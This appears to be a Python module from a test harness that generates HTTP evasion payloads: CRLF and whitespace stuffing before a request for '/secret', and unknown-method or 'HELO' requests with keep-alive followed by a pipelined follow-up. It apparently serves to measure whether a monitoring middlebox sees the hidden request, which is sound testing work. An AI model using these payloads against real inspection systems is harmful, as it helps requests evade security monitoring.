"""Client-side scripts for the evasion attacks and a benign baseline."""

from __future__ import annotations

import enum
from dataclasses import dataclass, field

from .stream import Chunk, ORIG

PREFIX_UNITS = {
    "crlf": b"\r\n",
    "cr": b"\r",
    "lf": b"\n",
    "sp": b" ",
    "tab": b"\t",
}

FOLLOW_UP_PATH = "/secret"
HOST = "target"


class AttackName(enum.Enum):
    BASELINE = "baseline"
    CRLF_STUFFING = "crlf"
    UNKNOWN_METHOD = "unknown"
    HELO_METHOD = "helo"


@dataclass(frozen=True)
class Step:
    payload: bytes
    await_response: bool = True

    def __post_init__(self) -> None:
        if not self.payload:
            raise ValueError("script steps must carry a payload")


@dataclass(frozen=True)
class AttackScript:
    name: AttackName
    steps: tuple[Step, ...]
    params: dict = field(default_factory=dict)
    # request whose visibility decides the outcome; None when the script has none
    target_uri: str | None = None

    @property
    def has_follow_up(self) -> bool:
        return bool(self.params.get("follow_up"))

    def client_chunks(self) -> list[Chunk]:
        return [Chunk(ORIG, s.payload) for s in self.steps]


def request(method: str, path: str, keep_alive: bool = False) -> bytes:
    if not path:
        raise ValueError("request target required")
    lines = [f"{method} {path} HTTP/1.1", f"Host: {HOST}"]
    if keep_alive:
        lines.append("Connection: keep-alive")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")


def gen_baseline(path: str = "/") -> AttackScript:
    return AttackScript(AttackName.BASELINE, (Step(request("GET", path)),),
                        {"path": path}, target_uri=path)


def _unit(prefix_unit) -> bytes:
    if isinstance(prefix_unit, str):
        try:
            return PREFIX_UNITS[prefix_unit.lower()]
        except KeyError:
            raise ValueError(f"unknown prefix unit {prefix_unit!r}; "
                             f"use one of {sorted(PREFIX_UNITS)} or raw bytes") from None
    return bytes(prefix_unit)


def gen_crlf_stuffing(repetitions: int, prefix_unit: str | bytes = "crlf",
                      path: str = FOLLOW_UP_PATH) -> AttackScript:
    """Prepend ``prefix_unit * repetitions`` to a valid request for ``path``."""
    if repetitions < 0:
        raise ValueError("repetitions must be >= 0")
    unit = _unit(prefix_unit)
    payload = unit * repetitions + request("GET", path)
    return AttackScript(AttackName.CRLF_STUFFING, (Step(payload),),
                        {"repetitions": repetitions, "prefix_unit": unit, "path": path},
                        target_uri=path)


def _misleading(name: AttackName, method: str, follow_up: bool, path: str,
                method_length: int | None) -> AttackScript:
    if method_length is not None:
        if method_length < 1:
            raise ValueError("method_length must be >= 1")
        method = (method * (method_length // len(method) + 1))[:method_length]
    steps = [Step(request(method, path, keep_alive=True))]
    if follow_up:
        steps.append(Step(request("GET", FOLLOW_UP_PATH, keep_alive=True)))
    params = {"method": method, "follow_up": follow_up, "path": path}
    return AttackScript(name, tuple(steps), params,
                        target_uri=FOLLOW_UP_PATH if follow_up else None)


def gen_unknown_method(follow_up: bool = True, path: str = "/", method: str = "UNKNOWNMETHOD",
                       method_length: int | None = None) -> AttackScript:
    """Unknown request method with keep-alive, then (optionally) a valid follow-up.

    ``method_length`` repeats the method string to that length, which turns
    the request into a buffer filler as well.
    """
    return _misleading(AttackName.UNKNOWN_METHOD, method, follow_up, path, method_length)


def gen_helo_method(follow_up: bool = True, path: str = "/") -> AttackScript:
    return _misleading(AttackName.HELO_METHOD, "HELO", follow_up, path, None)


def build_attack(name: str | AttackName, *, follow_up: bool = True, repetitions: int = 512,
                 prefix_unit: str | bytes = "crlf", path: str | None = None,
                 method: str | None = None, method_length: int | None = None) -> AttackScript:
    """Build any attack script from harness-style parameters."""
    name = AttackName(name)
    if name is AttackName.BASELINE:
        return gen_baseline(path or "/")
    if name is AttackName.CRLF_STUFFING:
        return gen_crlf_stuffing(repetitions, prefix_unit, path or FOLLOW_UP_PATH)
    if name is AttackName.UNKNOWN_METHOD:
        return gen_unknown_method(follow_up, path or "/", method or "UNKNOWNMETHOD", method_length)
    return gen_helo_method(follow_up, path or "/")
